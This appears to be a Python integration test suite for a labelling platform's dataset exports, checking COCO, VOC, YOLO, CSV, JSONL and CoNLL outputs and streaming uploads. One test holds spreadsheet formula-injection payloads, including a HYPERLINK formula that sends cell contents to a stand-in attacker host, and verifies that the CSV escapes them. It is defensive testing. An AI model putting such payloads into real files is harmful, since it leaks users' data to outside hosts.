"""Dataset exports end to end on moto: API -> jobs queue -> jobs worker -> S3 -> independent readers.

Each format is read back with a reader that is not ours: pycocotools for COCO, xml.etree for
VOC, plain parsing for YOLO and CoNLL, and the JSON Schema in docs/exports.md for JSON(L).
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import jsonschema
import moto.s3.models
import pytest

from infra.local.datasets import datasets_dir
from serval.adapters import jobs as job_store
from serval.adapters import tasks as task_store
from serval.domain.actor import Actor
from serval.domain.exports.text import read_conll
from serval.domain.media import MediaType
from serval.domain.models import Task, TextRef, utcnow
from serval.logic import dataset_export
from tests.integration.api_client import LambdaContextStub, call
from tests.integration.conftest import Aws

ROOT = Path(__file__).resolve().parents[2]
IMAGES = datasets_dir() / "images"
LABELS = {
    "controls": [
        {"name": "shape", "type": "classification", "classes": [{"name": "circle"}, {"name": "square"}]},
        {"name": "objects", "type": "bbox", "classes": [{"name": "circle"}, {"name": "square"}]},
    ]
}
NER_LABELS = {
    "controls": [{"name": "entities", "type": "ner", "classes": [{"name": "PER"}, {"name": "LOC"}]}]
}
# (file in the shared dataset, its pixel size, boxes as (label, x, y, w, h) relative)
IMAGE_TASKS = [
    (
        "shapes/shapes_000.png",
        (320, 240),
        [("circle", 0.35, 0.45, 0.2, 0.3), ("square", 0.2, 0.15, 0.2, 0.2)],
    ),
    ("photos/chelsea.jpg", (451, 300), [("square", 0.0, 0.0, 0.5, 0.5)]),
    ("photos/coffee.jpg", (600, 400), []),
]
TEXTS = [
    ("Ada Lovelace lived in London .", [("PER", 0, 12), ("LOC", 22, 28)]),
    ("Grüße aus Zürich", [("LOC", 10, 16)]),
    ("nothing here", []),
]


def _schema() -> dict[str, Any]:
    """The task-object JSON Schema documented in docs/exports.md (the first ```json block)."""
    text = (ROOT / "docs" / "exports.md").read_text()
    block = re.search(r"```json\n(.*?)```", text, re.S)
    assert block, "docs/exports.md has no JSON Schema block"
    return dict(json.loads(block.group(1)))


def create_project(admin: Actor, media: str, labels: dict[str, Any]) -> str:
    body = {"name": f"export {media}", "media_types": [media], "label_config": labels}
    response = call("POST", "/projects", admin, body)
    assert response.status == 201, response.body
    return str(response.body["project_id"])


def annotate(project_id: str, task_id: str, admin: Actor, results: list[dict[str, Any]]) -> None:
    url = f"/projects/{project_id}/tasks/{task_id}/annotations"
    response = call("POST", url, admin, {"results": results, "lead_time_s": 2.0})
    assert response.status == 201, response.body


@dataclass
class WorkerContext(LambdaContextStub):
    """The jobs function's context: 15 minutes to go (the API stub's 29 s is under the margin)."""

    function_name: str = "serval-local-jobs"

    def get_remaining_time_in_millis(self) -> int:
        return 900_000


def sqs_records(messages: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Received jobs-queue messages as the records of the jobs function's SQS event."""
    return [
        {
            "messageId": m["MessageId"],
            "receiptHandle": "rh",
            "body": m["Body"],
            "attributes": {"ApproximateReceiveCount": "1"},
            "messageAttributes": {},
            "md5OfBody": "",
            "eventSource": "aws:sqs",
            "eventSourceARN": "arn:aws:sqs:us-east-1:123456789012:serval-local-jobs",
            "awsRegion": "us-east-1",
        }
        for m in messages
    ]


def _run_worker(aws: Aws) -> None:
    from jobs.handler import handler

    messages = aws.sqs.receive_message(QueueUrl=aws.env["JOBS_QUEUE_URL"], MaxNumberOfMessages=10)["Messages"]
    response = handler({"Records": sqs_records(messages)}, WorkerContext())  # type: ignore[arg-type]
    assert response["batchItemFailures"] == []


def _export(aws: Aws, admin: Actor, project_id: str, body: dict[str, Any]) -> tuple[dict[str, Any], bytes]:
    created = call("POST", f"/projects/{project_id}/exports", admin, body)
    assert created.status == 202, created.body
    assert (created.body["kind"], created.body["status"]) == ("dataset_export", "queued")
    _run_worker(aws)
    done = call("GET", f"/projects/{project_id}/exports/{created.body['job_id']}", admin)
    assert done.status == 200, done.body
    assert done.body["status"] == "succeeded", done.body.get("error")
    assert done.body["download_url"].startswith("https://")
    data = aws.s3.get_object(Bucket=aws.env["EXPORT_BUCKET"], Key=done.body["result_key"])["Body"].read()
    return dict(done.body), bytes(data)


@pytest.fixture
def image_project(aws: Aws, admin: Actor) -> dict[str, Any]:
    """Given an image project: three real images (one whose size is only in its metadata),
    one file that is not an image, and boxes on them; the first task is annotated twice."""
    project_id = create_project(admin, "image", LABELS)
    bucket = aws.env["DATA_BUCKET"]
    items = []
    for i, (name, size, _) in enumerate(IMAGE_TASKS):
        key = f"projects/{project_id}/{Path(name).name}"
        aws.s3.put_object(Bucket=bucket, Key=key, Body=(IMAGES / name).read_bytes())
        metadata = {"width": size[0], "height": size[1]} if i == 2 else {}
        items.append({"data": {"image": f"s3://{bucket}/{key}"}, "metadata": metadata})
    aws.s3.put_object(Bucket=bucket, Key=f"projects/{project_id}/broken.png", Body=b"not an image")
    items.append({"data": {"image": f"s3://{bucket}/projects/{project_id}/broken.png"}})
    created = call("POST", f"/projects/{project_id}/tasks", admin, items)
    assert created.status == 201, created.body
    task_ids = list(created.body["task_ids"])
    # a first, superseded annotation: the export takes the latest
    annotate(
        project_id, task_ids[0], admin, [{"control": "shape", "type": "classification", "labels": ["square"]}]
    )
    for task_id, (_, _, boxes) in zip(task_ids[:3], IMAGE_TASKS, strict=True):
        results: list[dict[str, Any]] = [{"control": "shape", "type": "classification", "labels": ["circle"]}]
        if boxes:
            results.append(
                {
                    "control": "objects",
                    "type": "bbox",
                    "boxes": [{"label": b[0], "x": b[1], "y": b[2], "w": b[3], "h": b[4]} for b in boxes],
                }
            )
        annotate(project_id, task_id, admin, results)
    annotate(
        project_id,
        task_ids[3],
        admin,
        [
            {
                "control": "objects",
                "type": "bbox",
                "boxes": [{"label": "circle", "x": 0.1, "y": 0.1, "w": 0.1, "h": 0.1}],
            }
        ],
    )
    return {"project_id": project_id, "task_ids": task_ids}


def _expected_pixels(index: int) -> list[tuple[str, float, float, float, float]]:
    _, (w, h), boxes = IMAGE_TASKS[index]
    return [(b[0], b[1] * w, b[2] * h, b[3] * w, b[4] * h) for b in boxes]


def test_coco_loads_with_pycocotools_and_unknown_sizes_are_failed(
    aws: Aws, admin: Actor, image_project: dict[str, Any], tmp_path: Path
) -> None:
    from pycocotools.coco import COCO

    # When the image project is exported as COCO
    job, data = _export(aws, admin, image_project["project_id"], {"format": "coco"})
    # Then the three real images are in it, and the broken one is failed and named
    assert job["counts"] == {"done": 3, "failed": 1}
    assert image_project["task_ids"][3] in job["error"]
    path = tmp_path / "coco.json"
    path.write_bytes(data)
    coco = COCO(str(path))
    assert [c["name"] for c in coco.loadCats(coco.getCatIds())] == ["circle", "square"]
    by_task = {img["serval_task_id"]: img for img in coco.loadImgs(coco.getImgIds())}
    for index, task_id in enumerate(image_project["task_ids"][:3]):
        image = by_task[task_id]
        assert (image["width"], image["height"]) == IMAGE_TASKS[index][1]
        anns = coco.loadAnns(coco.getAnnIds(imgIds=[image["id"]]))
        got = [(coco.cats[a["category_id"]]["name"], *a["bbox"]) for a in anns]
        assert len(got) == len(_expected_pixels(index))
        for g, e in zip(got, _expected_pixels(index), strict=True):
            assert g[0] == e[0]
            assert g[1:] == pytest.approx(e[1:], abs=0.01)
        for a in anns:
            assert a["area"] == pytest.approx(a["bbox"][2] * a["bbox"][3], rel=1e-3)


def test_voc_xml_matches_the_boxes(aws: Aws, admin: Actor, image_project: dict[str, Any]) -> None:
    job, data = _export(aws, admin, image_project["project_id"], {"format": "voc"})
    assert job["counts"] == {"done": 3, "failed": 1}
    archive = zipfile.ZipFile(io.BytesIO(data))
    for index, task_id in enumerate(image_project["task_ids"][:3]):
        root = ET.fromstring(archive.read(f"Annotations/{task_id}.xml"))
        size = (int(root.findtext("size/width") or 0), int(root.findtext("size/height") or 0))
        assert size == IMAGE_TASKS[index][1]
        objects = [
            (
                o.findtext("name"),
                *(int(o.findtext(f"bndbox/{t}") or -1) for t in ("xmin", "ymin", "xmax", "ymax")),
            )
            for o in root.iter("object")
        ]
        expected = [(lab, x, y, x + w, y + h) for lab, x, y, w, h in _expected_pixels(index)]
        assert len(objects) == len(expected)
        for got, want in zip(objects, expected, strict=True):
            assert got[0] == want[0]
            assert got[1:] == pytest.approx(want[1:], abs=1)
    assert sorted(archive.read("ImageSets/Main/default.txt").decode().split()) == sorted(
        image_project["task_ids"][:3]
    )


def test_yolo_labels_match_the_boxes_after_normalization(
    aws: Aws, admin: Actor, image_project: dict[str, Any]
) -> None:
    # YOLO needs no pixel size: the broken image is exported too
    job, data = _export(aws, admin, image_project["project_id"], {"format": "yolo"})
    assert job["counts"] == {"done": 4, "failed": 0}
    archive = zipfile.ZipFile(io.BytesIO(data))
    yaml = archive.read("data.yaml").decode()
    assert '0: "circle"' in yaml and '1: "square"' in yaml
    names = ["circle", "square"]
    for index, task_id in enumerate(image_project["task_ids"][:3]):
        lines = archive.read(f"labels/{task_id}.txt").decode().splitlines()
        got = [(names[int(c)], *map(float, rest)) for c, *rest in (line.split() for line in lines)]
        expected = [(b[0], b[1] + b[3] / 2, b[2] + b[4] / 2, b[3], b[4]) for b in IMAGE_TASKS[index][2]]
        assert len(got) == len(expected)
        for g, e in zip(got, expected, strict=True):
            assert g[0] == e[0]
            assert g[1:] == pytest.approx(e[1:], abs=1e-6)
    listing = [line.split("\t") for line in archive.read("images.txt").decode().splitlines()]
    assert sorted(row[0] for row in listing) == sorted(image_project["task_ids"])
    assert all(row[1].startswith(f"s3://{aws.env['DATA_BUCKET']}/projects/") for row in listing)


def test_groundtruth_manifest_follows_the_output_format(
    aws: Aws, admin: Actor, image_project: dict[str, Any]
) -> None:
    job, data = _export(aws, admin, image_project["project_id"], {"format": "groundtruth"})
    assert job["counts"] == {"done": 3, "failed": 1}  # the broken image has boxes: it needs its size
    lines = [json.loads(line) for line in data.decode().splitlines()]
    first = next(line for line in lines if line["source-ref"].endswith("/shapes_000.png"))
    assert first["shape"] == 0 and first["shape-metadata"]["class-name"] == "circle"
    assert first["shape-metadata"]["type"] == "groundtruth/image-classification"
    boxes = first["objects"]
    assert boxes["image_size"] == [{"width": 320, "height": 240, "depth": 3}]
    assert boxes["annotations"][0] == {"class_id": 0, "left": 112, "top": 108, "width": 64, "height": 72}
    meta = first["objects-metadata"]
    assert meta["class-map"] == {"0": "circle", "1": "square"}
    assert (meta["human-annotated"], meta["type"]) == ("yes", "groundtruth/object-detection")
    assert len(meta["objects"]) == 2 and meta["creation-date"]


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv"])
def test_json_jsonl_and_csv_hold_every_task_with_its_latest_annotation(
    aws: Aws, admin: Actor, image_project: dict[str, Any], fmt: str
) -> None:
    job, data = _export(aws, admin, image_project["project_id"], {"format": fmt})
    assert job["counts"] == {"done": 4, "failed": 0}
    text = data.decode()
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        objects = [{"task_id": r["task_id"], "results": json.loads(r["results"])} for r in rows]
    else:
        items = json.loads(text) if fmt == "json" else [json.loads(line) for line in text.splitlines()]
        for item in items:
            jsonschema.validate(item, _schema())
        objects = [{"task_id": i["task_id"], "results": i["annotation"]["results"]} for i in items]
    first = next(o for o in objects if o["task_id"] == image_project["task_ids"][0])
    assert first["results"][0]["labels"] == ["circle"]  # the latest, not the superseded "square"
    assert sorted(o["task_id"] for o in objects) == sorted(image_project["task_ids"])


def test_filters_and_label_config_version(aws: Aws, admin: Actor, image_project: dict[str, Any]) -> None:
    pid = image_project["project_id"]
    none, _ = _export(aws, admin, pid, {"format": "jsonl", "filters": {"approved_only": True}})
    assert none["counts"] == {"done": 0, "failed": 0}
    tagged, _ = _export(aws, admin, pid, {"format": "jsonl", "filters": {"tags": ["nope"]}})
    assert tagged["counts"]["done"] == 0
    _, data = _export(aws, admin, pid, {"format": "jsonl", "label_config_version": 7})
    assert all(json.loads(line)["annotation"] is None for line in data.decode().splitlines())


def test_conll_round_trips_tokens_and_tags(aws: Aws, admin: Actor) -> None:
    project_id = create_project(admin, "text", NER_LABELS)
    created = call("POST", f"/projects/{project_id}/tasks", admin, [{"data": {"text": t}} for t, _ in TEXTS])
    assert created.status == 201, created.body
    for task_id, (_, spans) in zip(created.body["task_ids"], TEXTS, strict=True):
        if spans:
            spans_body = [{"label": label, "start": s, "end": e} for label, s, e in spans]
            annotate(
                project_id, task_id, admin, [{"control": "entities", "type": "ner", "spans": spans_body}]
            )
    job, data = _export(aws, admin, project_id, {"format": "conll"})
    assert job["counts"] == {"done": 3, "failed": 0}
    documents = read_conll(data.decode())
    by_text = {" ".join(tok for tok, _ in doc): doc for doc in documents}
    assert by_text["Ada Lovelace lived in London ."] == [
        ("Ada", "B-PER"),
        ("Lovelace", "I-PER"),
        ("lived", "O"),
        ("in", "O"),
        ("London", "B-LOC"),
        (".", "O"),
    ]
    assert by_text["Grüße aus Zürich"] == [("Grüße", "O"), ("aus", "O"), ("Zürich", "B-LOC")]
    assert by_text["nothing here"] == [("nothing", "O"), ("here", "O")]


def test_an_export_is_not_another_kind_of_job(aws: Aws, admin: Actor) -> None:
    project_id = create_project(admin, "text", NER_LABELS)
    audit_job = call("POST", f"/projects/{project_id}/audit/exports", admin, {"format": "jsonl"}).body
    assert call("GET", f"/projects/{project_id}/exports/{audit_job['job_id']}", admin).status == 404
    bad = call("POST", f"/projects/{project_id}/exports", admin, {"format": "tiff"})
    assert bad.status == 422


def test_a_large_export_streams_in_several_multipart_parts(
    aws: Aws, admin: Actor, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given 3,000 small tasks and a small part size (moto allowed to take small parts)
    project_id = create_project(admin, "text", NER_LABELS)
    at = utcnow()
    tasks = [
        Task(
            task_id=f"t-{i:05d}",
            project_id=project_id,
            data={"text": TextRef(text=f"task number {i} " + "y" * 100)},
            media_type=MediaType.TEXT,
            created_at=at,
            updated_at=at,
        )
        for i in range(3_000)
    ]
    task_store.batch_put(tasks)
    part = 64 * 1024
    monkeypatch.setattr(moto.s3.models, "S3_UPLOAD_PART_MIN_SIZE", part)
    monkeypatch.setattr(job_store, "MIN_PART_BYTES", part)
    monkeypatch.setattr(dataset_export, "PART_BYTES", part)
    # When it is exported as JSON Lines
    job, data = _export(aws, admin, project_id, {"format": "jsonl"})
    # Then every task is there, and the object was uploaded in parts of that size
    assert job["counts"] == {"done": 3_000, "failed": 0}
    assert len(data.splitlines()) == 3_000
    head = aws.s3.head_object(Bucket=aws.env["EXPORT_BUCKET"], Key=job["result_key"])
    parts = int(head["ETag"].strip('"').rsplit("-", 1)[1])  # a multipart ETag ends in -<parts>
    assert head["ContentLength"] > 5 * part
    assert parts == math.ceil(head["ContentLength"] / part)


def test_a_50k_task_export_streams_with_bounded_buffers(
    aws: Aws, admin: Actor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The streaming design at 50k tasks: pages of the reader, one part in the writer, many parts."""
    from bench.metering import metered
    from infra.local import patches
    from serval.adapters import export_reader

    with patches.installed():  # DynamoDB queries read their partition only, as on AWS
        # Given 50,000 tasks
        project_id = create_project(admin, "text", NER_LABELS)
        at = utcnow()
        task_store.batch_put(
            [
                Task(
                    task_id=f"t-{i:06d}",
                    project_id=project_id,
                    data={"text": TextRef(text=f"task number {i}")},
                    media_type=MediaType.TEXT,
                    created_at=at,
                    updated_at=at,
                )
                for i in range(50_000)
            ]
        )
        part = 256 * 1024
        monkeypatch.setattr(moto.s3.models, "S3_UPLOAD_PART_MIN_SIZE", part)
        monkeypatch.setattr(job_store, "MIN_PART_BYTES", part)
        monkeypatch.setattr(dataset_export, "PART_BYTES", part)
        largest_buffer = [0]
        write = job_store.ResultWriter.write

        def watched(self: job_store.ResultWriter, data: bytes) -> None:
            write(self, data)
            largest_buffer[0] = max(largest_buffer[0], len(self._buffer))

        monkeypatch.setattr(job_store.ResultWriter, "write", watched)

        # When they are exported as JSON Lines
        with metered() as calls:
            job, data = _export(aws, admin, project_id, {"format": "jsonl"})

    # Then every task is written once
    assert job["counts"] == {"done": 50_000, "failed": 0}
    assert len(data.splitlines()) == 50_000
    # And the writer never held a whole part (it uploads as it goes), in many parts
    head = aws.s3.head_object(Bucket=aws.env["EXPORT_BUCKET"], Key=job["result_key"])
    parts = int(head["ETag"].strip('"').rsplit("-", 1)[1])
    assert parts == math.ceil(head["ContentLength"] / part) >= 20
    assert largest_buffer[0] < part
    assert calls.count("UploadPart") == parts
    # And the tasks were read page by page (pages of READ_PAGE), never all at once
    assert calls.count("Query") >= 50_000 // export_reader.READ_PAGE


def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text(aws: Aws, admin: Actor) -> None:
    # Given tasks whose caller-chosen external ids start like spreadsheet formulas
    project_id = create_project(admin, "text", NER_LABELS)
    hostile = ['=HYPERLINK("https://evil.example/?q="&A1,"open")', "+1+1", "-1", "@SUM(A1)", "\uff0b1"]
    items = [{"data": {"text": f"text {i}"}, "external_id": e} for i, e in enumerate(hostile)]
    created = call("POST", f"/projects/{project_id}/tasks", admin, items)
    assert created.status == 201, created.body
    # When the project is exported as CSV
    _, data = _export(aws, admin, project_id, {"format": "csv"})
    # Then each such cell is written with a leading single quote, so it is shown as text
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    assert sorted(r["external_id"] for r in rows) == sorted("'" + e for e in hostile)
    # And JSON Lines keeps the values as they were sent
    _, lines = _export(aws, admin, project_id, {"format": "jsonl"})
    assert sorted(json.loads(x)["external_id"] for x in lines.decode().splitlines()) == sorted(hostile)


RENAMED = {
    "controls": [
        {"name": "shape", "type": "classification", "classes": [{"name": "circle"}, {"name": "box"}]},
        {"name": "objects", "type": "bbox", "classes": [{"name": "circle"}, {"name": "box"}]},
    ]
}


@pytest.mark.parametrize("fmt", ["coco", "yolo", "groundtruth"])
def test_labels_of_a_renamed_class_fail_their_tasks_and_the_export_completes(
    aws: Aws, admin: Actor, image_project: dict[str, Any], fmt: str
) -> None:
    # Given tasks labelled "square", then the class renamed to "box"
    pid, (first, second, third, broken) = image_project["project_id"], image_project["task_ids"]
    renamed = call("PATCH", f"/projects/{pid}", admin, {"label_config": RENAMED})
    assert renamed.status == 200, renamed.body
    # When the project is exported in a format that maps labels to class ids
    job, _ = _export(aws, admin, pid, {"format": fmt})
    # Then the export succeeds; the two tasks with "square" boxes count as failed, with the reason
    reason = "label 'square' of control 'objects'" if fmt == "groundtruth" else "label 'square'"
    failed = {first, second} | ({broken} if fmt in ("coco", "groundtruth") else set())  # no pixel size
    assert job["counts"] == {"done": 4 - len(failed), "failed": len(failed)}
    for task_id in (first, second):
        assert f"{task_id} ({reason} is not a class of the current label configuration)" in job["error"]
    assert third not in job["error"]


def test_an_error_a_retry_cannot_mend_fails_the_job_at_once(
    aws: Aws, admin: Actor, image_project: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given an encoder that fails on the data, not on the network
    from jobs.handler import handler

    from serval.domain.exports import images

    def broken(records: Any, config: Any) -> Any:
        raise KeyError("cat")

    monkeypatch.setattr(images, "coco_chunks", broken)
    pid = image_project["project_id"]
    job_id = call("POST", f"/projects/{pid}/exports", admin, {"format": "coco"}).body["job_id"]
    messages = aws.sqs.receive_message(QueueUrl=aws.env["JOBS_QUEUE_URL"])["Messages"]
    # When its message is delivered the first time
    response = handler({"Records": sqs_records(messages)}, WorkerContext())  # type: ignore[arg-type]
    # Then the message is not retried, and the job failed with the reason at once
    assert response["batchItemFailures"] == []
    job = call("GET", f"/projects/{pid}/exports/{job_id}", admin).body
    assert (job["status"], job["attempts"]) == ("failed", 1)
    assert job["error"] == "failed with an error that a retry cannot fix: KeyError: 'cat'"
